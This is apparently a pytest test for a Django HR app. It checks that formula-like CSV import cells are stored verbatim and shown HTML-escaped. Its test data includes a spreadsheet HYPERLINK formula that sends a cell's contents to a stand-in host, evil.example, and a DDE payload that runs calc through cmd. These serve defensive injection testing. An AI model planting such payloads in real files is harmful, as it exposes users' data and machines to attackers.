"""Cells that a spreadsheet would read as a formula (= + - @) are stored as typed and shown as text."""

import pytest

from organizations.models import Employee
from tests.kit import import_page, uploaded_through_the_page, url

pytestmark = pytest.mark.django_db

FIRST_NAME = '=HYPERLINK("http://evil.example/?"&A1,"<b>Klik</b>")'
LAST_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
JOB_TITLE = "+31 6 12345678"
TEAM = "-Verkoop"


def test_formula_like_cells_are_stored_verbatim_and_rendered_escaped(tenant_a, hr):
    line = ";".join(['"' + FIRST_NAME.replace('"', '""') + '"', f'"{LAST_NAME}"', JOB_TITLE, TEAM])
    header = "first_name;last_name;job_title;team;email"
    people_import = uploaded_through_the_page(hr, tenant_a.organization, f"{line};f@alfa.example", header=header)
    preview = hr.get(import_page("preview", people_import))
    assert "&lt;b&gt;Klik&lt;/b&gt;" in preview.content.decode()
    hr.post(import_page("apply", people_import))

    person = Employee.objects.select_related("team").get(user__email="f@alfa.example")
    assert (person.first_name, person.last_name, person.job_title, person.team.name) == (
        FIRST_NAME,
        LAST_NAME,
        JOB_TITLE,
        TEAM,
    )
    for page in ("people_list", "person_detail"):
        kwargs = {"employee_id": person.pk} if page == "person_detail" else {}
        html = hr.get(url(f"organizations:{page}", tenant_a.organization, **kwargs)).content.decode()
        assert "<b>Klik</b>" not in html
        assert "=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;&lt;b&gt;Klik&lt;/b&gt;&quot;)" in html
